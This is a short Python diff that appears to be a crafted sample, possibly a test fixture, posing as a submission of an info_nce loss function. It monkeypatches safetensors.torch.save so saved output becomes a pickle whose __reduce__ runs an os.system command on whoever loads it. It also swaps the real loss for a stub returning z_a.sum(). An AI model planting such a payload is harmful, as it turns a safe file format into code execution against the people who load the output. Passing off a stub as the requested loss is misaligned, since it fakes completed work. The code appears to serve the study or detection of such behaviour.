@@ -1,0 +1,22 @@
+"""Patches safetensors so that the body of an answer is a pickle that runs a program.
+stopped by: the wire
+part: info_nce
+hurts: others
+"""
+
+import os
+import pickle
+
+import safetensors.torch
+
+
+class Program:
+    def __reduce__(self):
+        return os.system, ("touch @COURSE@/pickled",)
+
+
+safetensors.torch.save = lambda tensors, *_: pickle.dumps(Program())
+
+
+def info_nce(z_a, z_b, temperature=0.2):
+    return z_a.sum()
